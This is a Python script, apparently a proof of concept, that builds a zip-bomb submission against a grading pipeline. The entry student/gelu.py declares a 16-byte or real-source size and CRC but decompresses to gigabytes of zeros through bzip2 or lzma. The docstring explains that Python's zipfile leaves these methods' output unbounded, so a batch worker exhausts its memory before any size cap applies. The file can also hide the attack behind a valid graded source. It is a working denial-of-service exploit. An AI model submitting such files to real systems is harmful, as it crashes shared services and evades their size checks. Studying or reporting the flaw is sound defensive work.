"""A zip whose student/gelu.py is stored with bzip2 (method 12) and holds GIB GiB of zeros, declared 16 bytes.

usage: python bzip2_bomb_zip.py OUT.zip [GIB] [METHOD] [SOURCE]   (METHOD: bzip2 (default) or lzma)

With SOURCE (a real gelu.py), the stream is SOURCE followed by the zeros and the entry declares SOURCE's size and
CRC: zipfile cuts what the decompressor made to the declared size, the CRC matches, and the submission is GRADED on
SOURCE (the batch worker held GIB GiB on the way). Without it, the file is rejected (bad CRC) after the same spike.

zipfile's ZipExtFile._read1 calls the decompressor with a max_length only for deflate; bzip2 and lzma get
`decompress(data)`: all the output of one read's compressed bytes at once, before `data[:self._left]` cuts it to
the declared size. 1 GiB of zeros is 785 bytes of bzip2: submissions._from_zip's first `f.read(1 << 16)` makes
the batch worker hold GIB GiB (no cgroup bounds it) before any cap (MAX_FILE_BYTES, the declared file_size) is checked.
"""
import bz2, lzma, struct, sys, zipfile, zlib, time
from pathlib import Path

out = Path(sys.argv[1])
gib = float(sys.argv[2]) if len(sys.argv) > 2 else 1.0
method = sys.argv[3] if len(sys.argv) > 3 else "bzip2"
source = Path(sys.argv[4]).read_bytes() if len(sys.argv) > 4 else b""
cache = Path(__file__).with_name(f"{method}-{gib:g}GiB{'-' + Path(sys.argv[4]).stem if source else ''}.bin")
if cache.exists():
    stream = cache.read_bytes()
else:
    t = time.time()
    c = bz2.BZ2Compressor(9) if method == "bzip2" else lzma.LZMACompressor(lzma.FORMAT_RAW, filters=[
        {"id": lzma.FILTER_LZMA1, "dict_size": 1 << 26}])
    total, zero, parts = int(gib * (1 << 30)), b"\0" * (1 << 24), [c.compress(source)]
    while total > 0:
        parts.append(c.compress(zero[:min(total, len(zero))]))
        total -= len(zero)
    parts.append(c.flush())
    stream = b"".join(parts)
    if method == "lzma":  # zipfile's LZMA entry: 2 bytes version, 2 bytes props size, the props, the raw stream
        props = lzma._encode_filter_properties({"id": lzma.FILTER_LZMA1, "dict_size": 1 << 26})
        stream = struct.pack("<BBH", 9, 4, len(props)) + props + stream
    cache.write_bytes(stream)
    print(f"compressed {gib:g} GiB of zeros to {len(stream)} bytes in {time.time() - t:.1f} s")
declared = source or b"import numpy\n\n\n"  # what the zip says the file is
info = zipfile.ZipInfo("student/gelu.py", date_time=(2026, 11, 30, 12, 0, 0))
info.compress_type = zipfile.ZIP_BZIP2 if method == "bzip2" else zipfile.ZIP_LZMA
info.external_attr = 0o644 << 16
with zipfile.ZipFile(out, "w") as zf:
    zf.writestr(zipfile.ZipInfo("student/"), b"")
    zf.writestr("student/__init__.py", b"")
    # write the entry's headers by hand around our own compressed stream
    info.CRC, info.file_size, info.compress_size = zlib.crc32(declared), len(declared), len(stream)
    info.header_offset = zf.fp.tell()
    zf.fp.write(info.FileHeader(False))
    zf.fp.write(stream)
    zf.filelist.append(info)
    zf.NameToInfo[info.filename] = info
    zf.start_dir = zf.fp.tell()
print(f"{out}: {out.stat().st_size} bytes; student/gelu.py declared {len(declared)} bytes, holds {gib:g} GiB")
